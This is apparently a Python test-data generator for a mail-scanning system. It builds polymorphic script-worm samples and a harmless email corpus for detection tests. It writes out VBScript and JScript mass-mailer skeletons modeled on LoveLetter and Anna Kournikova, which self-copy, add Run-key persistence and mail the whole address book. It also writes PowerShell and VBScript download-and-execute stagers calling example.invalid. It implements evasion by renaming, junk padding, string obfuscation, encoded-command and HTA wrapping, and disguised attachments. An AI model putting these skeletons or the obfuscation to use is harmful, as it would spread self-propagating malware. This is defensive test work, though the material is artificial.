# ruff: noqa: E501 (the skeletons and texts are scripts, their lines as people write them)
"""A seeded generator of padded script worms, and of the harmless scripts and text people mail.

Each worm is one of a few family skeletons (the shape of classic script mass-mailers and
downloaders: LoveLetter-like, Anna-Kournikova-like, a JScript mailer, a PowerShell downloader,
an HTA and a batch dropper) made polymorphic the way such worms and their kits did it: fresh
random names, junk statements and comments between the real ones, strings built from Chr /
fromCharCode / concatenation / Replace / reversal, strings moved into variables, Script Encoder
or -EncodedCommand wrapping; then attached under a name and declared type that say nothing
(``.txt`` text/plain, no name at all, the body itself, a zip member).

Nothing here is malware and nothing is ever executed: every skeleton's first statement ends the
script (WScript.Quit, exit), files and hosts are placeholders (example.invalid), and the text only
exists in memory to be scanned.
"""

from __future__ import annotations

import base64
import random
import re
import string
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage

from archive_builders import zip_of

from mailtower.scanning.skeptic._code import wsh_encode

# --- family skeletons ---------------------------------------------------------------------------
# Names in NAMES are the author's own and are renamed per copy; everything else is the language's.

LOVELETTER_LIKE = """\
WScript.Quit
On Error Resume Next
Dim fso, shell, sysdir, windir, source, text
Set fso = CreateObject("Scripting.FileSystemObject")
Set shell = CreateObject("WScript.Shell")
Set source = fso.OpenTextFile(WScript.ScriptFullName, 1)
text = source.ReadAll
source.Close
Set windir = fso.GetSpecialFolder(0)
Set sysdir = fso.GetSpecialFolder(1)
fso.CopyFile WScript.ScriptFullName, sysdir & "\\placeholder-mail.vbs"
shell.RegWrite "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\placeholder", sysdir & "\\placeholder-mail.vbs"
Call spread()
Sub spread()
  Dim outlook, mapi, book, person, item, n
  Set outlook = CreateObject("Outlook.Application")
  Set mapi = outlook.GetNameSpace("MAPI")
  For Each book In mapi.AddressLists
    If book.AddressEntries.Count <> 0 Then
      For n = 1 To book.AddressEntries.Count
        Set person = book.AddressEntries(n)
        Set item = outlook.CreateItem(0)
        item.Recipients.Add person.Address
        item.Subject = "a letter for you"
        item.Body = "please open the attached letter"
        item.Attachments.Add sysdir & "\\placeholder-mail.vbs"
        item.Send
      Next
    End If
  Next
  Set outlook = Nothing
End Sub
"""

ANNA_LIKE = """\
WScript.Quit
On Error Resume Next
Set shell = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CopyFile WScript.ScriptFullName, fso.GetSpecialFolder(0) & "\\placeholder-photo.jpg.vbs"
If shell.RegRead("HKCU\\Software\\placeholder\\sent") <> 1 Then
  sendall()
End If
Function sendall()
  On Error Resume Next
  Set outlook = CreateObject("Outlook.Application")
  If outlook = "Outlook" Then
    Set mapi = outlook.GetNameSpace("MAPI")
    Set books = mapi.AddressLists
    For Each book In books
      If book.AddressEntries.Count <> 0 Then
        total = book.AddressEntries.Count
        For k = 1 To total
          Set item = outlook.CreateItem(0)
          Set person = book.AddressEntries(k)
          item.To = person.Address
          item.Subject = "here you have"
          item.Body = "hi, check this"
          item.Attachments.Add fso.GetSpecialFolder(0) & "\\placeholder-photo.jpg.vbs"
          item.DeleteAfterSubmit = True
          If item.To <> "" Then
            item.Send
            shell.RegWrite "HKCU\\Software\\placeholder\\sent", 1
          End If
        Next
      End If
    Next
  End If
End Function
"""

JS_MAILER = """\
WScript.Quit();
var fso = new ActiveXObject("Scripting.FileSystemObject");
var shell = new ActiveXObject("WScript.Shell");
var copy = fso.GetSpecialFolder(1) + "\\\\placeholder-update.js";
fso.CopyFile(WScript.ScriptFullName, copy, true);
shell.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\placeholder", "wscript.exe " + copy);
var outlook = new ActiveXObject("Outlook.Application");
var mapi = outlook.GetNameSpace("MAPI");
for (var book = 1; book <= mapi.AddressLists.Count; book++) {
  var list = mapi.AddressLists(book);
  for (var n = 1; n <= list.AddressEntries.Count; n++) {
    var item = outlook.CreateItem(0);
    item.Recipients.Add(list.AddressEntries(n).Address);
    item.Subject = "your update";
    item.Body = "see the attached update";
    item.Attachments.Add(copy);
    item.Send();
  }
}
"""

PS_DOWNLOADER = """\
exit
$url = 'http://example.invalid/placeholder-stage.txt'
$path = Join-Path $env:TEMP 'placeholder-stage.exe'
$client = New-Object Net.WebClient
$client.Headers.Add('User-Agent', 'placeholder')
$client.DownloadFile($url, $path)
Start-Process -FilePath $path -WindowStyle Hidden
Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'placeholder' -Value $path
IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/placeholder-next.ps1')
"""

# Not in the rule data's families: caught by behaviour alone.
VBS_DOWNLOADER = """\
WScript.Quit
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://example.invalid/placeholder-stage.txt", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Open
stream.Type = 1
stream.Write http.ResponseBody
stream.SaveToFile "C:\\placeholder\\stage.exe", 2
stream.Close
Set shell = CreateObject("WScript.Shell")
shell.Run "C:\\placeholder\\stage.exe", 0, False
"""

FAMILIES: dict[str, tuple[str, str, tuple[str, ...]]] = {
    # name: (language, skeleton, the author's names)
    "loveletter-like": (
        "vb",
        LOVELETTER_LIKE,
        ("fso", "shell", "sysdir", "windir", "source", "text", "spread", "outlook", "mapi")
        + ("book", "person", "item", "n"),
    ),
    "anna-like": (
        "vb",
        ANNA_LIKE,
        ("shell", "fso", "sendall", "outlook", "mapi", "books", "book", "total", "k", "item")
        + ("person",),
    ),
    "js-mailer": (
        "js",
        JS_MAILER,
        ("fso", "shell", "copy", "outlook", "mapi", "book", "list", "n", "item"),
    ),
    "ps-downloader": ("ps", PS_DOWNLOADER, ("$url", "$path", "$client")),
    "vbs-downloader": ("vb", VBS_DOWNLOADER, ("http", "stream", "shell")),
}

# --- polymorphism -------------------------------------------------------------------------------


def _name(rng: random.Random) -> str:
    length = rng.randint(4, 14)
    return rng.choice(string.ascii_letters) + "".join(
        rng.choice(string.ascii_letters + string.digits) for _ in range(length - 1)
    )


def _words(rng: random.Random, count: int) -> str:
    return " ".join(
        "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(3, 10)))
        for _ in range(count)
    )


def _rename(source: str, names: tuple[str, ...], rng: random.Random, language: str) -> str:
    for name in names:
        new = ("$" if name.startswith("$") else "") + _name(rng)
        bare = re.escape(name)
        # Not inside strings, not after a dot (members are the runtime's).
        source = re.sub(rf'(?<![\w.$"\\]){bare}\b(?![\w"])', new, source)
    return source


_VB_STRING = re.compile(r'"((?:[^"\n]|"")*)"')
_JS_STRING = re.compile(r'"((?:[^"\\\n]|\\.)*)"')
_PS_STRING = re.compile(r"'((?:[^'\n]|'')*)'")


def _vb_build(text: str, rng: random.Random) -> str:
    """A VBScript expression that builds ``text``."""
    how = rng.randrange(4)
    if how == 0 or len(text) < 2:
        parts = []
        for char in text.replace('""', '"'):
            if rng.random() < 0.5:
                code = ord(char)
                if rng.random() < 0.3:
                    delta = rng.randint(1, 20)
                    parts.append(f"Chr({code - delta} + {delta})")
                else:
                    parts.append(f"Chr{'W' if rng.random() < 0.2 else ''}({code})")
            else:
                parts.append('"' + char.replace('"', '""') + '"')
        return " & ".join(parts) if parts else '""'
    if how == 1:
        cut = rng.randint(1, len(text) - 1)
        return f'"{text[:cut]}" & "{text[cut:]}"'
    if how == 2:
        raw = text.replace('""', '"')[::-1].replace('"', '""')
        return f'StrReverse("{raw}")'
    marker = rng.choice(["QZ", "xx", "~~", "%%"])
    cut = rng.randint(0, len(text))
    return f'Replace("{text[:cut]}{marker}{text[cut:]}", "{marker}", "")'


def _js_build(text: str, rng: random.Random) -> str:
    plain = re.sub(r"\\(.)", r"\1", text)
    how = rng.randrange(4)
    if how == 0:
        codes = ", ".join(str(ord(c)) for c in plain)
        return f"String.fromCharCode({codes})"
    if how == 1 and len(text) > 1:
        cut = rng.randint(1, len(text) - 1)
        while text[cut - 1] == "\\":
            cut = rng.randint(1, len(text) - 1) if cut > 1 else len(text)
            if cut == len(text):
                return f'"{text}"'
        return f'"{text[:cut]}" + "{text[cut:]}"'
    if how == 2:
        reversed_ = plain[::-1].replace("\\", "\\\\").replace('"', '\\"')
        return f'"{reversed_}".split("").reverse().join("")'
    marker = rng.choice(["QZ", "xx", "~~"])
    cut = rng.randint(0, len(text))
    while cut and text[cut - 1] == "\\":
        cut -= 1
    return f'"{text[:cut]}{marker}{text[cut:]}".replace("{marker}", "")'


def _ps_build(text: str, rng: random.Random) -> str:
    how = rng.randrange(3)
    if how == 0 and len(text) > 1:
        cut = rng.randint(1, len(text) - 1)
        return f"('{text[:cut]}' + '{text[cut:]}')"
    if how == 1 and text:
        return "(" + " + ".join(f"[char]{ord(c)}" for c in text[:3]) + f" + '{text[3:]}')"
    marker = rng.choice(["QZ", "xx"])
    return f"('{text}'.Replace('', '') -replace '{marker}', '')".replace(".Replace('', '')", "")


_BUILDERS: dict[str, tuple[re.Pattern[str], Callable[[str, random.Random], str], str]] = {
    "vb": (_VB_STRING, _vb_build, '"'),
    "js": (_JS_STRING, _js_build, '"'),
    "ps": (_PS_STRING, _ps_build, "'"),
}


def _build_strings(source: str, language: str, rng: random.Random, share: float) -> str:
    pattern, build, _ = _BUILDERS[language]

    def replace(match: re.Match[str]) -> str:
        if rng.random() >= share or not match.group(1):
            return match.group()
        return build(match.group(1), rng)

    return pattern.sub(replace, source)


def _hoist_strings(source: str, language: str, rng: random.Random) -> str:
    """Move some literals into variables assigned once at the top (CreateObject(x))."""
    pattern, _, quote = _BUILDERS[language]
    head: list[str] = []

    def replace(match: re.Match[str]) -> str:
        if rng.random() >= 0.3 or not match.group(1):
            return match.group()
        name = ("$" if language == "ps" else "") + _name(rng)
        if language == "vb":
            head.append(f"{name} = {match.group()}")
        elif language == "js":
            head.append(f"var {name} = {match.group()};")
        else:
            head.append(f"{name} = {match.group()}")
        return name

    lines = source.splitlines()
    body = [pattern.sub(replace, line) if i else line for i, line in enumerate(lines)]
    return "\n".join(body[:1] + head + body[1:]) + "\n"


def _junk_line(language: str, rng: random.Random, junk: list[str]) -> str:
    kind = rng.randrange(5)
    name = _name(rng)
    if language == "vb":
        name_ = name
        if kind == 0:
            return "' " + _words(rng, rng.randint(3, 12))
        if kind == 1:
            junk.append(name_)
            return f"{name_} = {rng.randint(0, 99999)}"
        if kind == 2:
            return f'Dim {name_} : {name_} = "{_words(rng, 3)}"'
        if kind == 3 and junk:
            return f'{name_} = {rng.choice(junk)} * {rng.randint(2, 9)} + Len("{_words(rng, 1)}")'
        return "Rem " + _words(rng, rng.randint(2, 8))
    if language == "js":
        if kind == 0:
            return "// " + _words(rng, rng.randint(3, 12))
        if kind == 1:
            junk.append(name)
            return f"var {name} = {rng.randint(0, 99999)};"
        if kind == 2:
            return f'var {name} = "{_words(rng, 3)}";'
        if kind == 3 and junk:
            return f"var {name} = {rng.choice(junk)} * {rng.randint(2, 9)} + Math.floor(3.5);"
        return "/* " + _words(rng, rng.randint(2, 10)) + " */"
    if kind == 0:
        return "# " + _words(rng, rng.randint(3, 12))
    if kind == 1:
        junk.append("$" + name)
        return f"${name} = {rng.randint(0, 99999)}"
    if kind == 2:
        return f"${name} = '{_words(rng, 3)}'"
    if kind == 3 and junk:
        return f"${name} = {rng.choice(junk)} * {rng.randint(2, 9)}"
    return "<# " + _words(rng, rng.randint(2, 10)) + " #>"


def _pad(source: str, language: str, rng: random.Random, rate: float) -> str:
    junk: list[str] = []
    out = []
    lines = source.splitlines()
    for line in lines:
        out.append(line)
        while rng.random() < rate:
            out.append(_junk_line(language, rng, junk))
        if rng.random() < 0.1:
            out.append("")
    return "\n".join(out) + "\n"


def _scramble_case(source: str, rng: random.Random) -> str:
    """VBScript and PowerShell ignore case outside strings."""
    out = []
    for line in source.splitlines():
        if rng.random() < 0.3:
            parts = re.split(r'("(?:[^"\n]|"")*"|\'[^\'\n]*\')', line)
            line = "".join(
                p if i % 2 else "".join(c.upper() if rng.random() < 0.5 else c for c in p)
                for i, p in enumerate(parts)
            )
        out.append(line)
    return "\n".join(out) + "\n"


@dataclass(frozen=True)
class Worm:
    family: str
    language: str
    tricks: tuple[str, ...]
    text: str


def worm(rng: random.Random, family: str | None = None) -> Worm:
    """One polymorphic copy of a family skeleton."""
    family = family or rng.choice(sorted(FAMILIES))
    language, source, names = FAMILIES[family]
    tricks = ["rename"]
    source = _rename(source, names, rng, language)
    if rng.random() < 0.4:
        source = _hoist_strings(source, language, rng)
        tricks.append("hoist")
    if rng.random() < 0.7:
        source = _build_strings(source, language, rng, rng.uniform(0.3, 1.0))
        tricks.append("strings")
    source = _pad(source, language, rng, rng.uniform(0.3, 0.8))
    tricks.append("junk")
    if language in ("vb", "ps") and rng.random() < 0.3:
        source = _scramble_case(source, rng)
        tricks.append("case")
    wrap = rng.random()
    if language in ("vb", "js") and wrap < 0.15:
        source = wsh_encode(source)
        tricks.append("script-encoder")
    elif language == "ps" and wrap < 0.3:
        encoded = base64.b64encode(source.encode("utf-16-le")).decode()
        flag = rng.choice(["-EncodedCommand", "-enc", "-e", "-EncodedC"])
        source = f"@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden {flag} {encoded}\r\n"
        tricks.append("encoded-command")
    elif language == "vb" and wrap < 0.25:
        source = (
            "<html><head><title>placeholder</title>\n"
            '<hta:application id="placeholder" windowstate="minimize">\n'
            f'<script language="VBScript">\n{source}</script></head><body></body></html>\n'
        )
        tricks.append("hta")
    return Worm(family, language, tuple(tricks), source)


# --- delivery -----------------------------------------------------------------------------------

DELIVERIES = ("txt-text-plain", "no-name", "body", "zip-member", "odd-type")


def _message(subject: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "sender@example.invalid"
    msg["To"] = "someone@example.invalid"
    msg["Subject"] = subject
    return msg


def deliver(text: str, how: str, rng: random.Random) -> bytes:
    """A message carrying ``text`` under a name and declared type that say nothing of code."""
    data = text.encode("utf-8")
    stem = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(4, 10)))
    msg = _message(f"{stem} for you")
    if how == "body":
        msg.set_content(text)
        return msg.as_bytes()
    msg.set_content("Hello,\n\nplease see the attachment.\n")
    if how == "txt-text-plain":
        msg.add_attachment(data, maintype="text", subtype="plain", filename=f"{stem}.txt")
    elif how == "no-name":
        part = EmailMessage()
        part.set_content(data, maintype="application", subtype="octet-stream")
        msg.make_mixed()
        msg.attach(part)
    elif how == "zip-member":
        member = rng.choice([f"{stem}.txt", stem, f"docs/{stem}.log"])
        msg.add_attachment(
            zip_of({member: data}), maintype="application", subtype="zip", filename=f"{stem}.zip"
        )
    else:
        maintype, subtype = rng.choice(
            [("text", "csv"), ("application", "json"), ("text", "x-log")]
        )
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=f"{stem}.dat")
    return msg.as_bytes()


@dataclass(frozen=True)
class Case:
    family: str
    delivery: str
    tricks: tuple[str, ...]
    raw: bytes


def generate(count: int, seed: int = 20) -> list[Case]:
    """``count`` worm messages, families and deliveries drawn evenly at random."""
    rng = random.Random(seed)
    cases = []
    for _ in range(count):
        copy = worm(rng)
        how = rng.choice(DELIVERIES)
        cases.append(Case(copy.family, how, copy.tricks, deliver(copy.text, how, rng)))
    return cases


# --- the harmless corpus ------------------------------------------------------------------------

CLEAN_TEXTS: dict[str, str] = {
    "prose": """\
Hi all,

the quarterly figures are attached. Set aside an hour on Thursday so we can go through them;
if the room is taken we will use the call link instead. Next steps: Anna sends the draft, Bob
checks the numbers, and I will forward the result to the board.

Thanks,
Carol
""",
    "python": """\
import csv
import sys


def totals(path):
    \"\"\"Sum the amount column per customer.\"\"\"
    sums = {}
    with open(path, newline="") as f:
        for row in csv.DictReader(f):
            sums[row["customer"]] = sums.get(row["customer"], 0) + float(row["amount"])
    return sums


if __name__ == "__main__":
    for name, total in sorted(totals(sys.argv[1]).items()):
        print(f"{name:20} {total:10.2f}")
""",
    "admin-vbs": """\
' Lists the free space of every fixed drive and maps the team share.
Option Explicit
Dim fso, network, drive, report
Set fso = CreateObject("Scripting.FileSystemObject")
Set network = CreateObject("WScript.Network")
report = ""
For Each drive In fso.Drives
  If drive.DriveType = 2 Then
    report = report & drive.DriveLetter & ": " & FormatNumber(drive.FreeSpace / 1073741824, 1) & " GB free" & vbCrLf
  End If
Next
On Error Resume Next
network.MapNetworkDrive "S:", "\\\\fileserver\\team"
WScript.Echo report
""",
    "vbs-one-mail": """\
' Sends the nightly report to the helpdesk (one fixed address).
Dim app, item
Set app = CreateObject("Outlook.Application")
Set item = app.CreateItem(0)
item.To = "helpdesk@example.invalid"
item.Subject = "Nightly report"
item.Body = "The backup finished."
item.Attachments.Add "C:\\Reports\\nightly.txt"
item.Send
""",
    "admin-ps": """\
# Restart the print spooler where it hangs and write a small report.
param([string[]]$Computers = @('pc01', 'pc02'))
$report = foreach ($computer in $Computers) {
    $service = Get-Service -ComputerName $computer -Name Spooler -ErrorAction SilentlyContinue
    if ($service -and $service.Status -ne 'Running') {
        Restart-Service -InputObject $service -Force
    }
    [pscustomobject]@{ Computer = $computer; Status = $service.Status }
}
$report | Export-Csv -Path "$env:USERPROFILE\\\\spooler.csv" -NoTypeInformation
Invoke-RestMethod -Uri 'https://status.example.invalid/api/ping' -Method Post -Body (@{ok=$true} | ConvertTo-Json)
Write-Host "done"
""",
    "batch": """\
@echo off
rem Nightly copy of the project folder to the NAS.
set SRC=C:\\Projects
set DST=\\\\nas\\backup\\%COMPUTERNAME%
if not exist "%DST%" mkdir "%DST%"
robocopy "%SRC%" "%DST%" /MIR /R:2 /W:5 /LOG:"%TEMP%\\backup.log"
if errorlevel 8 echo Backup failed, see %TEMP%\\backup.log
""",
    "json": """\
{"orders": [{"id": 1, "customer": "ACME", "items": [{"sku": "A-1", "qty": 3}]},
 {"id": 2, "customer": "Initech", "items": [{"sku": "B-7", "qty": 1}], "note": "eval(uate) later"}],
 "generated": "2026-12-07T10:00:00Z"}
""",
    "csv": """\
date,customer,amount,comment
2026-11-01,ACME,120.50,"set up new account"
2026-11-02,Initech,80.00,"run the report; then send it"
2026-11-03,Globex,99.99,"dim light in the office, replace bulb"
""",
    "html-js": """\
<!doctype html>
<html><head><title>Team lunch poll</title></head>
<body>
<form id="poll"><label><input type="radio" name="day" value="thu"> Thursday</label>
<label><input type="radio" name="day" value="fri"> Friday</label>
<button type="submit">Vote</button></form>
<script>
document.getElementById("poll").addEventListener("submit", function (event) {
  event.preventDefault();
  var choice = document.querySelector("input[name=day]:checked");
  var request = new XMLHttpRequest();
  request.open("POST", "https://poll.example.invalid/vote");
  request.send(JSON.stringify({ day: choice ? choice.value : null }));
  var match = /^(\\w+)$/.exec(choice ? choice.value : "");
  document.title = "Thanks" + (match ? " (" + match[1] + ")" : "");
});
</script>
</body></html>
""",
    "js-snippet": """\
// Debounce helper we talked about in the review.
function debounce(fn, wait) {
  var timer = null;
  return function () {
    var args = arguments, self = this;
    clearTimeout(timer);
    timer = setTimeout(function () { fn.apply(self, args); }, wait);
  };
}
var log = debounce(function (msg) { console.log(msg); }, 200);
log("ready");
""",
    "ps-mail-report": """\
# Mails the disk report to the admins (a fixed list, not an address book).
$disks = Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3'
$body = $disks | Format-Table DeviceID, FreeSpace -AutoSize | Out-String
Send-MailMessage -To 'admins@example.invalid' -From 'server@example.invalid' -Subject 'Disks' -Body $body -SmtpServer 'smtp.example.invalid'
""",
    # Mail people write about scripts: prose around a few lines of code (review of issue 20:
    # each of these was once taken for a worm).
    "ps-howto": """\
Hi Sam,

here is how to install the reporting agent by hand until the software centre has it. Open
PowerShell as administrator and paste these lines:

    Invoke-WebRequest -Uri https://downloads.example.invalid/agent/agent-setup.exe -OutFile $env:TEMP\\agent-setup.exe
    Start-Process -FilePath $env:TEMP\\agent-setup.exe -ArgumentList '/quiet' -Wait

If you want it to start with Windows for every user of the laptop, add the Run key as well:

    Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'ReportAgent' -Value 'C:\\Program Files\\ReportAgent\\agent.exe'

Call me if the download is blocked by the proxy; for now the old agent keeps working.

Best regards,
Dana (IT service desk)
""",
    "vba-newsletter-howto": """\
Tip of the month: sending the club newsletter from Outlook

Several of you asked how the newsletter goes out to every member in our Outlook Contacts. Press
Alt+F11 in Excel, insert a module and paste the macro below. Set the subject to the month's
edition before you run it, and try it on a test folder first!

Sub SendNewsletter()
    Dim ol As Object, ns As Object, item As Object, mail As Object
    Set ol = CreateObject("Outlook.Application")
    Set ns = ol.GetNamespace("MAPI")
    For Each item In ns.GetDefaultFolder(10).Items
        Set mail = ol.CreateItem(0)
        mail.To = item.Email1Address
        mail.Subject = "Club newsletter"
        mail.Attachments.Add "C:\\Club\\newsletter.pdf"
        mail.Send
    Next
End Sub

For more than a few hundred contacts, ask the committee first: the provider limits how much
mail one account may send per day.

Happy mailing,
the newsletter team
""",
    "prose-keywords": """\
Dear colleagues,

the new laptops arrive next week. Some notes before you start:
If you have files on the desktop, copy them to your home share first.
For the migration we need your old machine for one day.
Set aside half an hour on Tuesday to log in and check your mail.
Call the service desk if PowerShell or cmd.exe asks you for an admin password.
Start with the checklist in the wiki; it is short.
Go to the reception afterwards and pick up your docking station.

Thank you,
Facilities and IT
""",
    "sysadmin-ps-install": """\
Hi all,

the monitoring agent 7.2 is on the share. On the servers we still install it by hand, so for
the record this is what I ran on db01 and db02 this morning:

  $msi = "$env:TEMP\\monitor-7.2.msi"
  Invoke-WebRequest -Uri 'https://repo.example.invalid/monitor/7.2/monitor.msi' -OutFile $msi
  Start-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn" -Wait

Both came back after about a minute and show up green on the dashboard. Next week I will put
this into the deployment scripts so nobody has to do it by hand again.

Cheers,
Jo
""",
    "helpdesk-run-key": """\
Hello Mr Weber,

thank you for your call. The scanner tool does not start by itself after a reboot because the
installer did not write its autostart entry. You can add it yourself: press Windows+R, type
cmd.exe and press Enter, then type this line and press Enter again:

reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v ScanTool /t REG_SZ /d "C:\\Program Files\\ScanTool\\scantool.exe" /f

After the next sign-in the tool starts with Windows. If you would rather not do it yourself, reply
to this mail and we will connect remotely on Thursday morning.

Kind regards,
Helpdesk, ticket 48213
""",
    # A whole install script sent as a .txt: code through and through, one behaviour.
    "ps-install-script": """\
# Installs the print driver package on a workstation (run as administrator).
$package = Join-Path $env:TEMP 'printdriver-4.1.exe'
Invoke-WebRequest -Uri 'https://repo.example.invalid/drivers/printdriver-4.1.exe' -OutFile $package
$arguments = '/S /norestart'
Start-Process -FilePath $package -ArgumentList $arguments -Wait
Remove-Item $package
Write-Host "Print driver installed on $env:COMPUTERNAME"
""",
    "dev-js-fetch": """\
Hey Chris,

the dashboard widget now loads the figures itself instead of getting them from the page. The
call is small, I just wrapped the error handling:

async function loadFigures(region) {
  const response = await fetch(`/api/figures?region=${encodeURIComponent(region)}`);
  if (!response.ok) {
    throw new Error(`figures: HTTP ${response.status}`);
  }
  return response.json();
}

loadFigures("emea").then(render).catch((err) => console.error(err));

Could you have a look before Friday? If the API changes again we only touch this function.

Thanks,
Alex
""",
}


def clean_cases(seed: int = 21) -> list[tuple[str, str, bytes]]:
    """Every harmless text under every delivery: (text name, delivery, message)."""
    rng = random.Random(seed)
    return [
        (name, how, deliver(text, how, rng))
        for name, text in CLEAN_TEXTS.items()
        for how in DELIVERIES
    ]
